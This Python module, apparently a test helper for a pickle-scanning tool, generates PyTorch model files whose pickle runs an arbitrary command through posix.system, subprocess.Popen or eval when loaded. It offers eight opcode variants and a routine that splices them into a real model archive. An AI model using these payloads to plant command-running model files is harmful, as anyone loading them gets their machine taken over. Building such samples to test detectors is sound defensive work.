"""PyTorch files whose pickle would run a command when Python's unpickler read it."""

from __future__ import annotations

import pickletools
import struct
import zipfile
from pathlib import Path


def text(value: str) -> bytes:
    """The BINUNICODE opcode."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def commands(command: str) -> dict[str, tuple[bytes, str]]:
    """Way -> (opcodes that leave one value on the stack and run the command, the global they name)."""
    argument = text(command)
    empty_mapping = b"ccollections\nOrderedDict\n)R"
    by_state = empty_mapping + b"}" + text("x") + b"cposix\nsystem\n" + argument + b"\x85Rsb"
    return {
        "reduce": (b"cposix\nsystem\n" + argument + b"\x85R", "posix.system"),
        "stack global": (b"\x8c\x05posix\x8c\x06system\x93" + argument + b"\x85R", "posix.system"),
        "inst": (b"(" + argument + b"iposix\nsystem\n", "posix.system"),
        "obj": (b"(cposix\nsystem\n" + argument + b"o", "posix.system"),
        "newobj": (b"csubprocess\nPopen\n" + argument + b"\x85\x81", "subprocess.Popen"),
        "build": (by_state, "posix.system"),
        "setstate": (b"cmalice\nEvil\n)R" + argument + b"b", "malice.Evil"),
        "eval": (
            b"cbuiltins\neval\n" + text(f"__import__('os').system({command!r})") + b"\x85R",
            "builtins.eval",
        ),
    }


def with_value(source: Path, target: Path, opcodes: bytes, key: str, inside: str | None = None) -> Path:
    """A copy of a PyTorch file with `key: <opcodes>` set in its dictionary, or in the one under `inside`."""
    with zipfile.ZipFile(source) as archive:
        records = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        for name, content in records:
            if name.endswith("/data.pkl"):
                content = _with_value(content, text(key) + opcodes + b"s", inside)
            archive.writestr(name, content)
    return target


def _with_value(pickled: bytes, setting: bytes, inside: str | None) -> bytes:
    assert pickled.endswith(b".")
    if inside is not None:
        opcodes = [(opcode.name, argument) for opcode, argument, _ in pickletools.genops(pickled)]
        at = next(i for i, (_, argument) in enumerate(opcodes) if argument == inside)
        name, _ = opcodes[at + 2]
        assert name == "EMPTY_DICT", "the value of the key is no plain dictionary"
        memo = opcodes[at + 3][1]
        assert isinstance(memo, int)
        setting = b"j" + struct.pack("<I", memo) + setting + b"0"  # LONG_BINGET ... POP
    return pickled[:-1] + setting + b"."


def pickle_of(path: Path) -> bytes:
    """The pickle in a PyTorch file."""
    with zipfile.ZipFile(path) as archive:
        (name,) = [name for name in archive.namelist() if name.endswith("/data.pkl")]
        return archive.read(name)
